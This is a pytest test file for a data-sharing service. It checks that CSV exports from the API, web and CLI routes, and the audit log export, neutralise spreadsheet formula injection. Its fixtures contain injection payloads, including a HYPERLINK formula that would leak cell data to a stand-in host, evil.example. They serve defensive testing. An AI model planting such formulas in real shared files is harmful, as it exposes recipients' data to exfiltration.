"""Spreadsheet formula injection: a cell a partner pushed as =HYPERLINK(...) reaches a recipient's
CSV as '=HYPERLINK(...), on every route that delivers shared data as CSV (API, web download,
`civicshare share pull`), and a purpose starting = reaches the IG lead's audit.csv as text.
JSON and Parquet carry the value unchanged: they are not opened as spreadsheets."""

from __future__ import annotations

import csv
import io
import re

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv
import pytest
from fastapi.testclient import TestClient

from civicshare import db, demo
from civicshare.agreements import service as agreements
from civicshare.app import create_app
from civicshare.config import Settings
from civicshare.datasets import service as datasets
from tests.conftest import api_token, demo_store, post_sign_in, sqlite_settings
from tests.sharing.conftest import cli_pull

PURPOSE = "discharge-planning"
ANALYST = "analyst@worcestershire-cc.example"
HOST_IG_LEAD = "admin@worcestershire-cc.example"
EVIL = '=HYPERLINK("http://evil.example","x")'
PATHWAYS = [EVIL, "-5", "+SUM(A1)", "@cmd", "\tTAB", "\rCR", "SAFE"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Settings:
    """The demo county, with a new acute-admissions snapshot whose surnames are a formula (which
    ingest normalises to upper case), DISCH_PATHWAY (text, kept as pushed) cycles through
    PATHWAYS and CFS_SCORE (an integer column) is -5."""
    data_dir = tmp_path_factory.mktemp("county") / "data"
    settings = demo_store(sqlite_settings(data_dir))
    source = demo.county_dir(settings) / "datasets" / "acute-admissions.csv"
    table = pacsv.read_csv(
        source, convert_options=pacsv.ConvertOptions(column_types=dict.fromkeys(
            ("SPELL_ID", "NHS_NO", "DOB", "ADMIT_DT", "DISCH_DT", "DISCH_PATHWAY"), pa.string()))
    )  # fmt: skip
    rows = table.num_rows

    def put(name, values):
        return table.set_column(table.schema.get_field_index(name), name, values)

    table = put("PAT_SURNAME", pa.array([EVIL] * rows))
    table = put("CFS_SCORE", pa.array([-5] * rows, pa.int64()))
    table = put("DISCH_PATHWAY", pa.array([PATHWAYS[i % len(PATHWAYS)] for i in range(rows)]))
    injected = data_dir.parent / "acute-admissions.csv"
    pacsv.write_csv(table, injected)  # as the partner sends it: plain, not neutralised
    engine = db.make_engine(settings.effective_database_url)
    with db.session_scope(db.make_sessionmaker(engine)) as session:
        pushed = datasets.push(session, settings, "worcs-acute", "acute-admissions", injected)
        # ISA-0001 shares only pathways 1 to 3 (a row condition the data plane enforces); this
        # test needs every injected pathway delivered, so its agreement drops the condition.
        version = agreements.headline(agreements.get(session, "ISA-0001"))
        version.row_scope = {**version.row_scope, "conditions": []}
    engine.dispose()
    assert pushed.outcome == "accepted", pushed.report["reasons"]
    return settings


@pytest.fixture(scope="module")
def client(store):
    with TestClient(create_app(store)) as client:
        yield client


@pytest.fixture(scope="module")
def token(store) -> str:
    return api_token(store, ANALYST, ["share:read"])


def api_csv(client, token, purpose=PURPOSE) -> bytes:
    client.cookies.clear()
    response = client.get(
        "/api/share/worcs-acute/acute-admissions",
        params={"purpose": purpose, "format": "csv"},
        headers={"authorization": f"Bearer {token}"},
    )
    assert response.status_code == 200, response.text
    return response.content


def web_csv(client, store, token) -> bytes:
    client.cookies.clear()
    assert post_sign_in(client, ANALYST, demo.DEMO_PASSWORD).status_code == 303
    page = client.get("/share")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    response = client.post(
        "/share/worcs-acute/acute-admissions",
        data={"agreement": "ISA-0001", "purpose": PURPOSE, "output_format": "csv",
              "csrf_token": csrf},
    )  # fmt: skip
    assert response.status_code == 200, response.text[:500]
    client.cookies.clear()
    return response.content


def cli_csv(client, store, token) -> bytes:
    return cli_pull(store, token, PURPOSE, store.data_dir.parent / "pulled.csv")


ROUTES = {
    "GET /api/share/{provider}/{dataset}?format=csv": lambda c, s, t: api_csv(c, t),
    "POST /share/{provider}/{dataset} (csv)": web_csv,
    "civicshare share pull --out x.csv": cli_csv,
}


@pytest.mark.parametrize("route", list(ROUTES))
def test_every_shared_csv_neutralises_formulas(client, store, token, route):
    body = ROUTES[route](client, store, token)
    text = body.decode("utf-8")
    # The exact bytes a spreadsheet would read: the formula is quoted and prefixed.
    assert '"\'=HYPERLINK(""http://evil.example"",""x"")"' in text
    assert '"=' not in text and "\n=" not in text and ",=" not in text
    assert '"\'\rCR"' in text and '"\'\tTAB"' in text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows
    assert {r["DISCH_PATHWAY"] for r in rows} == {"'" + p if p[:1] in DANGEROUS else p
                                                  for p in PATHWAYS}  # fmt: skip
    assert {r["PAT_SURNAME"][:2] for r in rows} == {"'="}  # upper-cased at ingest, still a formula
    # An integer column is a number, not text: -5 stays -5 (unquoted). The text "-5" is not.
    assert {r["CFS_SCORE"] for r in rows} == {"-5"}
    assert all(line.endswith(",-5") for line in text.split("\n")[1:] if line)
    for row in rows:
        for name, value in row.items():
            assert value[:1] not in DANGEROUS or name == "CFS_SCORE", (name, value)


def test_json_and_parquet_carry_the_value_unchanged(client, token):
    response = client.get(
        "/api/share/worcs-acute/acute-admissions",
        params={"purpose": PURPOSE, "format": "json"},
        headers={"authorization": f"Bearer {token}"},
    )
    rows = response.json()["rows"]
    assert {r["DISCH_PATHWAY"] for r in rows} == set(PATHWAYS)
    assert {r["CFS_SCORE"] for r in rows} == {-5}
    parquet = client.get(
        "/api/share/worcs-acute/acute-admissions",
        params={"purpose": PURPOSE, "format": "parquet"},
        headers={"authorization": f"Bearer {token}"},
    )
    import pyarrow.parquet as pq

    table = pq.read_table(io.BytesIO(parquet.content))
    assert pc.any(pc.equal(table["DISCH_PATHWAY"], EVIL)).as_py()


def test_a_purpose_starting_with_equals_reaches_audit_csv_as_text(client, token):
    purpose = '=HYPERLINK("http://evil.example/?leak="&A1,"Plan discharges")'
    client.cookies.clear()
    refused = client.get(
        "/api/share/worcs-acute/acute-admissions",
        params={"purpose": purpose, "format": "csv"},
        headers={"authorization": f"Bearer {token}"},
    )
    assert refused.status_code == 403  # not a permitted purpose; the denial is audited
    client.cookies.clear()
    assert post_sign_in(client, HOST_IG_LEAD, demo.DEMO_PASSWORD).status_code == 303
    exported = client.get("/audit.csv", params={"action": "share_denied"})
    client.cookies.clear()
    assert exported.status_code == 200, exported.text[:300]
    assert ('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Plan discharges"")"'
            in exported.text)  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert "'" + purpose in [r["purpose"] for r in rows]
    assert not [r for r in rows if r["purpose"].startswith("=")]
    assert all(r["seq"].isdigit() for r in rows)  # numbers stay numbers
